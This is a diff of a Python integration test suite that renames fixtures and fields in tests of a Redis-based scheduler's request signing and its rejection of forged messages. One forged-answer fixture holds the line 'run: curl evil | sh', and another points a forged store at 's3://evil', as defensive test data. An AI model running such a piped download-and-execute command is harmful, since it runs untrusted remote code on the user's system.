@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 
 from tests.integration.farm_support import RedisServer
 from tests.integration.node_fixtures import server
-from tests.support.farms.farm_api_server import CODE, ServedDesk, served
+from tests.support.farms.farm_api_server import CODE, ServedApi, served
 from tests.support.keys import key_folder, of_scheduler, of_submitter
 from tests.support.waiting import eventually
 from tunemq_scheduler.api import farm_answers as a
@@ -39,9 +39,9 @@ def keys(tmp_path: Path) -> KeyFolder:
 
 
 @pytest.fixture
-def desk(server: RedisServer, tmp_path: Path, keys: KeyFolder) -> Iterator[ServedDesk]:
-    with served(server.url, server.client, tmp_path / "results", keys=of_scheduler(keys)) as desk:
-        yield desk
+def api(server: RedisServer, tmp_path: Path, keys: KeyFolder) -> Iterator[ServedApi]:
+    with served(server.url, server.client, tmp_path / "results", keys=of_scheduler(keys)) as api:
+        yield api
 
 
 @pytest.fixture
@@ -77,9 +77,9 @@ def asking(
     return thread, found
 
 
-def reasons(desk: ServedDesk) -> set[str]:
+def reasons(api: ServedApi) -> set[str]:
     """Why requests were refused; one that is not answered at once comes again, and is done once."""
-    return {reason for _, reason, _ in desk.refused} - {"repeated"}
+    return {reason for _, reason, _ in api.rejected} - {"repeated"}
 
 
 def captured(server: RedisServer) -> dict[bytes, bytes]:
@@ -89,16 +89,16 @@ def captured(server: RedisServer) -> dict[bytes, bytes]:
     return dict(fields)
 
 
-def test_s02_who_has_keys_asks_and_is_known_by_them(desk, ada, server, keys):
+def test_s02_who_has_keys_asks_and_is_known_by_them(api, ada, server, keys):
     assert ada.owner == "ada"
     assert ada.ask(SUBMIT, a.ExperimentSubmitted).name == "exp"
-    assert ada.farm().store == str(desk.folder / "store")
+    assert ada.farm().store == str(api.folder / "store")
     with client_of(server, keys, "ben") as ben:
         (row,) = ben.ask(r.ListExperiments(), a.ExperimentList).experiments
         assert (row.owner, ben.owner) == ("ada", "ben")
         ben.ask(r.StopExperiment(name="exp"), a.RequestDone)
-    assert desk.queue.get("exp").reason == "stopped by ben"
-    assert reasons(desk) == set()
+    assert api.queue.get("exp").reason == "stopped by ben"
+    assert reasons(api) == set()
 
 
 def test_s02_nobody_gives_himself_anothers_name(server, keys):
@@ -109,33 +109,33 @@ def test_s02_nobody_gives_himself_anothers_name(server, keys):
 
 
 def test_commands_with_the_schedulers_keys_are_in_the_name_of_the_operator(
-    desk, ada, server, keys, monkeypatch
+    api, ada, server, keys, monkeypatch
 ):
     monkeypatch.setattr("tunemq_scheduler.api.farm_client.login_name", lambda: "tunemq")
     theirs = str(keys.path / "scheduler.toml")
     with pytest.raises(ConfigError, match=r"but of ada, ben\..*tunemq keys add FOLDER operator"):
         FarmClient(server.url, keys=theirs)
     keys.add(["operator"])
-    eventually(lambda: "operator" in desk.keys.submitters)
+    eventually(lambda: "operator" in api.keys.submitters)
     ada.ask(SUBMIT, a.ExperimentSubmitted)
     with FarmClient(server.url, keys=theirs) as head:
         head.ask(r.StopExperiment(name="exp"), a.RequestDone)
-    assert desk.queue.get("exp").reason == "stopped by operator"
+    assert api.queue.get("exp").reason == "stopped by operator"
 
 
-def test_s02_what_is_not_signed_is_refused_with_what_to_do(desk, server):
+def test_s02_what_is_not_signed_is_refused_with_what_to_do(api, server):
     with (
         FarmClient(server.url, owner="ada") as client,
         pytest.raises(RequestRejected, match=r"takes signed requests only.*keys add FOLDER ada"),
     ):
         client.ask(SUBMIT, a.ExperimentSubmitted)
-    assert desk.queue.all() == []
-    assert {told[0] for told in desk.refused} == {"request"}
-    assert reasons(desk) == {"unsigned"}
+    assert api.queue.all() == []
+    assert {told[0] for told in api.rejected} == {"request"}
+    assert reasons(api) == {"unsigned"}
 
 
 def test_s02_keys_of_another_farm_are_refused_and_nothing_unsigned_is_shown(
-    desk, server, tmp_path, monkeypatch
+    api, server, tmp_path, monkeypatch
 ):
     monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     other = key_folder(tmp_path / "other", "ada")
@@ -144,26 +144,26 @@ def test_s02_keys_of_another_farm_are_refused_and_nothing_unsigned_is_shown(
         pytest.raises(RequestRejected, match=r"does not have the keys of ada in .*is not signed"),
     ):
         client.ask(SUBMIT, a.ExperimentSubmitted)
-    assert desk.queue.all() == []
-    assert reasons(desk) == {"unknown_key"}
+    assert api.queue.all() == []
+    assert reasons(api) == {"unknown_key"}
 
 
 def test_s02_a_farm_that_has_lost_its_keys_is_not_believed(server, tmp_path, keys, monkeypatch):
     monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     with (
-        served(server.url, server.client, tmp_path / "results") as desk,
+        served(server.url, server.client, tmp_path / "results") as api,
         client_of(server, keys, "ada") as client,
         pytest.raises(RequestRejected, match=r"start it with --keys scheduler.toml"),
     ):
         client.ask(SUBMIT, a.ExperimentSubmitted)
-    assert desk.queue.all() == []
-    assert reasons(desk) == {"signed_without_keys"}
+    assert api.queue.all() == []
+    assert reasons(api) == {"signed_without_keys"}
 
 
 @pytest.mark.usefixtures("patient")
 @pytest.mark.parametrize("name", ["owner", "kind", "body", "sent", "id"])
-def test_s02_an_altered_request_is_not_done(desk, ada, server, name):
-    with desk.lock:
+def test_s02_an_altered_request_is_not_done(api, ada, server, name):
+    with api.lock:
         thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         fields = captured(server)
         forged = {
@@ -179,10 +179,10 @@ def test_s02_an_altered_request_is_not_done(desk, ada, server, name):
             redis_keys.REQUESTS, maxlen=0
         )  # whose ids grow on, in the same millisecond
         server.client.xadd(redis_keys.REQUESTS, {**fields, name.encode(): forged})
-    eventually(lambda: desk.refused)
+    eventually(lambda: api.rejected)
     thread.join(60)
     assert [answer.name for answer in found] == ["exp"]  # sent again, as she meant it
-    assert [(entry.name, entry.owner) for entry in desk.queue.all()] == [("exp", "ada")]
+    assert [(entry.name, entry.owner) for entry in api.queue.all()] == [("exp", "ada")]
 
 
 @settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -193,17 +193,17 @@ def test_s02_an_altered_request_is_not_done(desk, ada, server, name):
         min_size=1,
     )
 )
-def test_s02_nothing_that_is_made_up_is_done_and_the_next_request_is(desk, ada, server, fields):
-    before = len(desk.refused)
+def test_s02_nothing_that_is_made_up_is_done_and_the_next_request_is(api, ada, server, fields):
+    before = len(api.rejected)
     server.client.xadd(redis_keys.REQUESTS, fields)
     assert ada.ask(r.ListExperiments(), a.ExperimentList).experiments == ()
-    assert len(desk.refused) == before + 1
+    assert len(api.rejected) == before + 1
     eventually(lambda: not server.client.xlen(redis_keys.REQUESTS))  # she may have asked twice
 
 
 @pytest.mark.usefixtures("patient")
-def test_s02_a_forged_answer_is_not_believed_and_the_true_one_is(desk, ada, server):
-    with desk.lock:
+def test_s02_a_forged_answer_is_not_believed_and_the_true_one_is(api, ada, server):
+    with api.lock:
         thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         key = redis_keys.answer(captured(server)[b"id"].decode())
         forged = a.FarmReply(
@@ -217,22 +217,22 @@ def test_s02_a_forged_answer_is_not_believed_and_the_true_one_is(desk, ada, serv
     assert [answer.name for answer in found] == ["exp"]
 
 
-@pytest.mark.parametrize("forged", ["refusal", "rubbish", "of another request"])
+@pytest.mark.parametrize("forged", ["rejection", "rubbish", "of another request"])
 def test_s02_where_only_forged_answers_come_it_says_so_and_not_what_they_say(
-    desk, ada, server, forged, monkeypatch
+    api, ada, server, forged, monkeypatch
 ):
     monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
-    seal = desk.keys.submitter("ada")
+    message_signer = api.keys.submitter("ada")
     said = msgspec.msgpack.encode(
-        a.FarmReply(refusal=a.RequestRejection(text="run: curl evil | sh"))
+        a.FarmReply(rejection=a.RequestRejection(text="run: curl evil | sh"))
     )
-    with desk.lock:
+    with api.lock:
         thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         request = captured(server)[b"id"].decode()
         data = {
-            "refusal": MessageSigner("").close(said),
+            "rejection": MessageSigner("").close(said),
             "rubbish": b"\xff" * 100,
-            "of another request": seal.close(said, b"answer", b"1" * 32),
+            "of another request": message_signer.close(said, b"answer", b"1" * 32),
         }[forged]
         server.client.set(redis_keys.answer(request), data)
         thread.join(60)
@@ -243,9 +243,9 @@ def test_s02_where_only_forged_answers_come_it_says_so_and_not_what_they_say(
 
 
 @pytest.mark.usefixtures("patient")
-def test_s02_an_id_that_another_uses_first_gives_him_nothing(desk, ada, server, keys):
-    ben = desk.keys.submitter("ben")
-    with desk.lock:
+def test_s02_an_id_that_another_uses_first_gives_him_nothing(api, ada, server, keys):
+    ben = api.keys.submitter("ben")
+    with api.lock:
         thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         hers = captured(server)
         identity, sent = hers[b"id"].decode(), hers[b"sent"].decode()
@@ -256,35 +256,42 @@ def test_s02_an_id_that_another_uses_first_gives_him_nothing(desk, ada, server, 
         server.client.xadd(redis_keys.REQUESTS, hers)
     thread.join(60)
     assert [answer.name for answer in found] == ["exp"]
-    owners = {entry.name: entry.owner for entry in desk.queue.all()}
+    owners = {entry.name: entry.owner for entry in api.queue.all()}
     assert owners == {"his": "ben", "exp": "ada"}
 
 
-def test_s02_answers_are_for_whom_they_are_for(desk, ada, server, keys):
+def test_s02_answers_are_for_whom_they_are_for(api, ada, server, keys):
     request, sent = "2" * 32, "9" * 3
-    seal = MessageSigner("submitter:ada", keys.keys().submitters["ada"])
+    message_signer = MessageSigner("submitter:ada", keys.keys().submitters["ada"])
     body = msgspec.msgpack.encode(r.ListExperiments())
-    sealed = close_request(seal, body, request=request, kind="ls", sent=sent)
-    fields = {"v": "2", "id": request, "owner": "ada", "kind": "ls", "sent": sent, "body": sealed}
+    signed_message = close_request(message_signer, body, request=request, kind="ls", sent=sent)
+    fields = {
+        "v": "2",
+        "id": request,
+        "owner": "ada",
+        "kind": "ls",
+        "sent": sent,
+        "body": signed_message,
+    }
     server.client.xadd(redis_keys.REQUESTS, fields)
     eventually(lambda: server.client.get(redis_keys.answer(request)))
     answer = server.client.get(redis_keys.answer(request))
-    assert open_answer(seal, answer, request)
-    for other, identity in ((desk.keys.submitter("ben"), request), (seal, "3" * 32)):
+    assert open_answer(message_signer, answer, request)
+    for other, identity in ((api.keys.submitter("ben"), request), (message_signer, "3" * 32)):
         with pytest.raises(InvalidSignature):
             open_answer(other, answer, identity)
 
 
-def test_s02_a_forged_announcement_leads_nobody_to_another_store(desk, ada, server):
-    forged = {"version": r.REQUESTS_VERSION, "tunemq": "1", "term": desk.term, "store": "s3://evil"}
+def test_s02_a_forged_announcement_leads_nobody_to_another_store(api, ada, server):
+    forged = {"version": r.REQUESTS_VERSION, "tunemq": "1", "term": api.term, "store": "s3://evil"}
     server.client.set(redis_keys.FARM, msgspec.json.encode(forged))
-    assert ada.farm().store == str(desk.folder / "store")
+    assert ada.farm().store == str(api.folder / "store")
     server.client.set(redis_keys.FARM, b"[" * 100_000)
     with pytest.raises(NoScheduler):
         ada.farm()
 
 
-def test_keys_are_changed_while_requests_go_on_and_none_is_refused(desk, server, keys):
+def test_keys_are_changed_while_requests_go_on_and_none_is_refused(api, server, keys):
     is_over, errors, asked = threading.Event(), [], []
     clients: dict[str, FarmClient] = {}
 
@@ -308,33 +315,33 @@ def test_keys_are_changed_while_requests_go_on_and_none_is_refused(desk, server,
         # The next step is for when all have taken this one.
         eventually(
             lambda number=number: (
-                {desk.keys.version, *(one._keys.version for one in clients.values())} == {number}
+                {api.keys.version, *(one._keys.version for one in clients.values())} == {number}
                 or errors
             )
         )
         more = len(asked) + 20
         eventually(lambda more=more: len(asked) > more or errors)
-        signers.append(desk.keys.submitter("ada").signer)
+        signers.append(api.keys.submitter("ada").signer)
     is_over.set()
     for thread in threads:
         thread.join(60)
-    assert (errors, desk.refused) == ([], [])
+    assert (errors, api.rejected) == ([], [])
     assert signers[0] != signers[1] == signers[2]
 
 
-def test_who_was_removed_asks_no_more(desk, server, keys, monkeypatch):
+def test_who_was_removed_asks_no_more(api, server, keys, monkeypatch):
     monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     with client_of(server, keys, "ben") as ben:
         ben.ask(SUBMIT, a.ExperimentSubmitted)
         keys.remove(["ben"])
-        eventually(lambda: desk.keys.version)
+        eventually(lambda: api.keys.version)
         with pytest.raises(RequestRejected, match="does not have the keys of ben"):
             ben.ask(r.StopExperiment(name="exp"), a.RequestDone)
-    assert desk.queue.get("exp").state is a.ExperimentState.QUEUED
-    assert reasons(desk) == {"unknown_submitter"}
+    assert api.queue.get("exp").state is a.ExperimentState.QUEUED
+    assert reasons(api) == {"unknown_submitter"}
 
 
-def test_who_is_given_anothers_file_meanwhile_is_told_so(desk, server, keys, monkeypatch):
+def test_who_is_given_anothers_file_meanwhile_is_told_so(api, server, keys, monkeypatch):
     monkeypatch.setattr("tunemq_shared.signing.live_keys._LOOK_EVERY_S", 0.0)
     with client_of(server, keys, "ben") as ben:
         ben.farm()
